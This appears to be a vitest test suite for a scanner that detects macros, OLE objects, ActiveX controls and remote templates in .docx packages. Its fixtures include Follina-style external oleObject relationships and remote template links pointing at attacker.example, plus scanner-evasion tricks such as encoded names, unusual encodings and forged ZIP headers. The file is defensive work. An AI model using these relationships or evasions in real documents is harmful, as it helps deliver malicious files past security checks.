import { strToU8, zipSync, type Zippable } from "fflate";
import { describe, expect, it } from "vitest";
import { OoxmlActiveContentCheck } from "./ooxml-check.ts";

/** Real .docx packages, zipped with fflate (parts deflated unless stored is asked for). */
const CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types";
const contentTypes = (overrides = "") =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="${CT_NS}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${overrides}</Types>`;
const RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const DOCUMENT = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Intake</w:t></w:r></w:p></w:body></w:document>';

function docx(extra: Zippable = {}, types = contentTypes(), level: 0 | 6 = 6): Buffer {
  return Buffer.from(
    zipSync({ "[Content_Types].xml": strToU8(types), "_rels/.rels": strToU8(RELS), "word/document.xml": strToU8(DOCUMENT), ...extra }, { level }),
  );
}

function check(bytes: Uint8Array, chunk = 0) {
  const c = new OoxmlActiveContentCheck({ maxTotalBytes: 1 << 30 });
  if (chunk === 0) c.push(bytes);
  else for (let i = 0; i < bytes.length; i += chunk) c.push(bytes.subarray(i, i + chunk));
  return c.finish();
}

function reasons(bytes: Uint8Array): string[] {
  const whole = check(bytes);
  expect(check(bytes, 1)).toEqual(whole);
  for (const size of [5, 64, 4096]) expect(check(bytes, size), `chunks of ${size}`).toEqual(whole);
  return whole.map((f) => f.reason);
}

const VBA = { "word/vbaProject.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]) };

describe("OOXML active content", () => {
  it("passes a clean docx, deflated or stored", () => {
    expect(reasons(docx())).toEqual([]);
    expect(reasons(docx({}, contentTypes(), 0))).toEqual([]);
  });

  it("passes a docx embedding an .xlsx (a chart's data), which holds no macros", () => {
    expect(reasons(docx({ "word/embeddings/Microsoft_Excel_Worksheet.xlsx": new Uint8Array([1, 2, 3]) }))).toEqual([]);
  });

  it("refuses a docx with a vbaProject.bin part, at any path and in any case", () => {
    expect(reasons(docx(VBA))).toEqual(["office_macros"]);
    expect(reasons(docx({ "customXml/VBAPROJECT.BIN": new Uint8Array([1]) }))).toEqual(["office_macros"]);
    expect(check(docx({ "word\\vbaProject.bin": new Uint8Array([1]) }))[0]!.detail).toMatch(/word\/vbaproject\.bin/);
  });

  it("refuses a docx whose macro-enabled content type is only in the deflated [Content_Types].xml", () => {
    const types = contentTypes().replace("wordprocessingml.document.main+xml", "").replace("application/vnd.openxmlformats-officedocument.", "application/vnd.ms-word.document.macroEnabled.main+xml");
    const file = docx({}, types);
    expect(file.includes("macroEnabled")).toBe(false); // deflated: only the inflated part says it
    expect(check(file)).toEqual([{ reason: "office_macros", detail: "OOXML document whose [Content_Types].xml declares a macro-enabled content type" }]);
    expect(reasons(file)).toEqual(["office_macros"]);
  });

  it("refuses a vbaProject content type, also when written with character references", () => {
    const vba = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';
    expect(reasons(docx({}, contentTypes(vba)))).toEqual(["office_macros"]);
    expect(reasons(docx({}, contentTypes(vba.replace("vbaProject", "vba&#x50;roject"))))).toEqual(["office_macros"]);
    expect(reasons(docx({}, contentTypes().replace(/ContentType="application\/xml"/, 'ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"')))).toEqual(["office_macros"]);
  });

  it("refuses ActiveX controls and OLE objects", () => {
    expect(reasons(docx({ "word/activeX/activeX1.xml": strToU8("<ax/>") }))).toEqual(["office_ole_object"]);
    expect(reasons(docx({ "word/embeddings/oleObject1.bin": new Uint8Array([1]) }))).toEqual(["office_ole_object"]);
    expect(reasons(docx({}, contentTypes('<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')))).toEqual(["office_ole_object"]);
    expect(reasons(docx({ "word/embeddings/Doc.docm": new Uint8Array([1]) }))).toEqual(["office_macros"]);
    expect(reasons(docx({ "word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls": new Uint8Array([0xd0, 0xcf]) }))).toEqual(["office_ole_object"]);
  });

  it("finds a vbaProject.bin after a large stored part, wherever the chunks split its header", () => {
    const noise = new Uint8Array(200_000).map((_, i) => (i * 7919 + (i >> 9)) & 0xff); // holds many "P" bytes
    expect(reasons(docx({ "word/media/image1.bin": noise, ...VBA }, contentTypes(), 0))).toEqual(["office_macros"]);
    expect(reasons(docx({ "word/media/image1.bin": noise }, contentTypes(), 0))).toEqual([]);
  });

  it("reads a [Content_Types].xml written with a data descriptor (sizes unknown in its local header)", () => {
    const types = contentTypes('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>');
    const file = docx({}, types);
    const local = file.indexOf("PK\x03\x04");
    expect(file.toString("latin1", local + 30, local + 49)).toBe("[Content_Types].xml");
    file.writeUInt16LE(file.readUInt16LE(local + 6) | 0x08, local + 6); // bit 3: sizes follow the data
    file.writeUInt32LE(0, local + 18);
    file.writeUInt32LE(0, local + 22);
    expect(reasons(file)).toEqual(["office_macros"]);
  });

  it("reads a UTF-16 [Content_Types].xml", () => {
    const types = contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>').replace('encoding="UTF-8"', 'encoding="UTF-16"');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(types, "utf16le")]);
    const file = Buffer.from(zipSync({ "[Content_Types].xml": utf16, "word/document.xml": strToU8(DOCUMENT) }));
    expect(file.includes("vbaProject")).toBe(false);
    expect(reasons(file)).toEqual(["office_macros"]);
  });

  it("finds a part name that only the central directory gives (local header renamed)", () => {
    const file = docx(VBA, contentTypes(), 0);
    const local = file.indexOf("word/vbaProject.bin");
    file.write("word/vbaProjecX.bin", local, "latin1"); // the first occurrence is the local header
    expect(file.indexOf("word/vbaProject.bin")).toBeGreaterThan(local);
    expect(reasons(file)).toEqual(["office_macros"]);
  });

  // The relationship type, not a part's name or content type, is what makes Word load a
  // part as a VBA project, an OLE object or a template: .rels parts are read like
  // [Content_Types].xml (deflated, so their words are not in the file's bytes).
  const relsWith = (rel: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
  const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

  it("refuses an external oleObject relationship (CVE-2022-30190, Follina: no OLE part, nothing in [Content_Types].xml)", () => {
    const rels = relsWith(`<Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/>`);
    const file = docx({ "word/_rels/document.xml.rels": strToU8(rels) });
    expect(file.includes("oleObject")).toBe(false);
    expect(reasons(file)).toEqual(["office_ole_object"]);
  });

  it("reads a relationship whose attribute value holds a '>' (legal in XML) before its Type", () => {
    const rels = relsWith(`<Relationship Id="rId9" Target="http://attacker.example/a>b" Type='${R}/oleObject' TargetMode="External"/>`);
    expect(reasons(docx({ "word/_rels/document.xml.rels": strToU8(rels) }))).toEqual(["office_ole_object"]);
  });

  it("refuses a VBA project under another name, found by its relationship type", () => {
    const rels = relsWith('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="media/image9.bin"/>');
    const file = docx({ "word/_rels/document.xml.rels": strToU8(rels), "word/media/image9.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) });
    expect(reasons(file)).toEqual(["office_macros"]);
  });

  it("refuses an ActiveX control relationship and a remote template; passes a local Normal.dotm template", () => {
    expect(reasons(docx({ "word/_rels/document.xml.rels": strToU8(relsWith(`<Relationship Id="rId9" Type="${R}/control" Target="ctl/c1.xml"/>`)) }))).toEqual(["office_ole_object"]);
    const template = (target: string) => docx({ "word/_rels/settings.xml.rels": strToU8(relsWith(`<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="${target}" TargetMode="External"/>`)) });
    expect(reasons(template("https://attacker.example/t.dotm"))).toEqual(["office_macros"]);
    expect(reasons(template("\\\\attacker.example\\share\\t.dotm"))).toEqual(["office_macros"]);
    expect(reasons(template("file:///\\\\attacker.example\\share\\t.dotm"))).toEqual(["office_macros"]);
    expect(reasons(template("Templates/t.dotm"))).toEqual(["office_macros"]); // relative: resolved wherever the document sits, a share too
    expect(reasons(template("file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"))).toEqual([]);
  });

  it("reads a UTF-16 [Content_Types].xml or .rels without a byte-order mark (XML 1.0 appendix F autodetection)", () => {
    const types = contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>').replace('encoding="UTF-8"', 'encoding="UTF-16"');
    expect(reasons(Buffer.from(zipSync({ "[Content_Types].xml": Buffer.from(types, "utf16le"), "word/document.xml": strToU8(DOCUMENT) })))).toEqual(["office_macros"]);
    const rels = relsWith(`<Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/>`).replace('encoding="UTF-8"', 'encoding="UTF-16"');
    expect(reasons(docx({ "word/_rels/document.xml.rels": Buffer.from(rels, "utf16le").swap16() }))).toEqual(["office_ole_object"]);
  });

  it("refuses an XML part declaring an encoding other than UTF-8 or UTF-16 (OPC admits only those)", () => {
    const types = contentTypes().replace('encoding="UTF-8"', 'encoding="UTF-7"');
    expect(check(docx({}, types))[0]).toMatchObject({ reason: "unscannable", detail: expect.stringMatching(/UTF-7/) });
  });

  it("refuses an XML part that does not start as UTF-8 or UTF-16 XML (EBCDIC spells vbaProject in other bytes)", () => {
    // IBM037 (Python's cp037 codec), each printable ASCII character's byte; 4C 6F A7 94 is "<?xm" (XML 1.0 appendix F).
    const ascii = " !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz";
    const ebcdic = Buffer.from("405a7f7b5b6c507d4d5d5c4e6b604b61f0f1f2f3f4f5f6f7f8f97a5e4c7e6e6f7cc1c2c3c4c5c6c7c8c9d1d2d3d4d5d6d7d8d9e2e3e4e5e6e7e8e9bae0bbb06d79818283848586878889919293949596979899a2a3a4a5a6a7a8a9", "hex");
    const types = contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>').replace('encoding="UTF-8"', 'encoding="IBM037"');
    const encoded = Buffer.from([...types].map((c) => ebcdic[ascii.indexOf(c)]!));
    expect(encoded.subarray(0, 4).toString("hex")).toBe("4c6fa794");
    expect(ascii.length).toBe(ebcdic.length);
    expect(check(Buffer.from(zipSync({ "[Content_Types].xml": encoded, "word/document.xml": strToU8(DOCUMENT) }))))
      .toEqual([{ reason: "unscannable", detail: expect.stringMatching(/does not start as UTF-8 or UTF-16 XML/) }]);
  });

  it("refuses a .rels part that only the central directory names as one", () => {
    const rels = relsWith(`<Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/>`);
    const file = docx({ "word/_rels/document.xml.rels": strToU8(rels) });
    file.write("word/_rels/document.xml.relz", file.indexOf("word/_rels/document.xml.rels"), "latin1"); // local header only
    expect(check(file)).toContainEqual(expect.objectContaining({ reason: "unscannable", detail: expect.stringMatching(/central directory names word\/_rels\/document\.xml\.rels/) }));
  });

  it("refuses Excel 4.0 (XLM) macro sheets, by part name, content type or relationship type", () => {
    const XL = "http://schemas.microsoft.com/office/2006/relationships";
    expect(reasons(docx({ "xl/macrosheets/sheet1.xml": strToU8("<xm:macrosheet/>") }))).toEqual(["office_macros"]);
    expect(reasons(docx({}, contentTypes('<Override PartName="/xl/sheets/s9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>')))).toEqual(["office_macros"]);
    expect(reasons(docx({ "xl/_rels/workbook.xml.rels": strToU8(relsWith(`<Relationship Id="rId9" Type="${XL}/xlIntlMacrosheet" Target="sheets/s9.xml"/>`)) }))).toEqual(["office_macros"]);
  });

  it("refuses an altChunk that imports RTF or MHTML (which carry OLE objects); passes an HTML one", () => {
    const chunk = (target: string) => docx({ "word/_rels/document.xml.rels": strToU8(relsWith(`<Relationship Id="rId9" Type="${R}/aFChunk" Target="${target}"/>`)) });
    expect(reasons(chunk("afchunk.rtf"))).toEqual(["office_ole_object"]);
    expect(reasons(chunk("chunk.mht"))).toEqual(["office_ole_object"]);
    expect(reasons(chunk("chunk1.html"))).toEqual([]);
  });

  it("refuses a stored XML part of unknown size (data descriptor): a fake signature in its text would end the read early", () => {
    // In UTF-16LE the bytes "PK\x07\x08" are the characters U+4B50 U+0807, valid in an XML
    // comment: the read stopped there and the relationship after it was never seen.
    const rels = relsWith(`<!--\u4b50\u0807--><Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/>`);
    const file = docx({ "word/_rels/document.xml.rels": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels, "utf16le")]) }, contentTypes(), 0);
    const local = file.indexOf("word/_rels/document.xml.rels") - 30;
    expect(file.readUInt32LE(local)).toBe(0x04034b50);
    file.writeUInt16LE(file.readUInt16LE(local + 6) | 0x08, local + 6); // bit 3: sizes follow the data
    file.writeUInt32LE(0, local + 18);
    file.writeUInt32LE(0, local + 22);
    const found = check(file);
    expect(found.map((f) => f.reason)).toEqual(["unscannable"]);
    expect(found[0]!.detail).toMatch(/stored without its size/);
    expect(reasons(file)).toEqual(["unscannable"]);
  });

  it("refuses a local header inside a stored .rels part's text instead of ending the read there", () => {
    // A fake local header for "ab.rels" at an odd offset inside a UTF-16 comment: every code
    // unit it makes is a valid XML character, and it ended the read of the real part, whose
    // oleObject relationship after the comment went unread.
    const fake = Buffer.alloc(30);
    fake.writeUInt32LE(0x04034b50, 0);
    fake.writeUInt16LE(0x2020, 4); // version needed
    fake.writeUInt16LE(0x2000, 6); // flags: not encrypted, sizes in the header
    fake.writeUInt16LE(0, 8); // stored
    fake.writeUInt32LE(0x21212121, 10); // time, date
    fake.writeUInt32LE(0x21212121, 14); // CRC
    fake.writeUInt32LE(0x2020, 18);
    fake.writeUInt32LE(0x2020, 22);
    fake.writeUInt16LE(7, 26);
    fake.writeUInt16LE(0x20, 28); // extra field length
    const inComment = Buffer.concat([Buffer.from([0x41]), fake, Buffer.from("ab.rels", "latin1"), Buffer.from([0x41])]);
    const rels = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><!--', "utf16le"),
      inComment,
      Buffer.from(`${"x".repeat(0x1020)}--><Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/></Relationships>`, "utf16le"),
    ]);
    const units = Array.from({ length: rels.length / 2 - 1 }, (_, i) => rels.readUInt16LE(2 + 2 * i));
    expect(units.filter((u) => (u < 0x20 && u !== 0x09 && u !== 0x0a && u !== 0x0d) || (u >= 0xd800 && u <= 0xdfff) || u >= 0xfffe)).toEqual([]);
    const found = reasons(docx({ "word/_rels/document.xml.rels": rels }, contentTypes(), 0));
    expect(found).toContain("unscannable");
    expect(found).toContain("office_ole_object");
  });

  it("refuses a [Content_Types].xml it cannot read: truncated, another method, a DTD, named only in the central directory", () => {
    const whole = docx();
    const data = whole.indexOf("[Content_Types].xml") + "[Content_Types].xml".length; // fflate writes no extra field
    expect(reasons(whole.subarray(0, data + 20))).toEqual(["unscannable"]);

    const method = docx();
    method.writeUInt16LE(12, method.indexOf("PK\x03\x04") + 8); // bzip2: not read here
    expect(check(method)[0]).toMatchObject({ reason: "unscannable", detail: expect.stringMatching(/compression method 12/) });

    expect(reasons(docx({}, `<!DOCTYPE Types [<!ENTITY m "macroEnabled">]>${contentTypes()}`))).toEqual(["unscannable"]);

    const renamed = docx({}, contentTypes(), 0);
    renamed.write("[Content_Typez].xml", renamed.indexOf("[Content_Types].xml"), "latin1");
    expect(check(renamed)[0]).toMatchObject({ reason: "unscannable", detail: expect.stringMatching(/central directory names/) });
  });
});
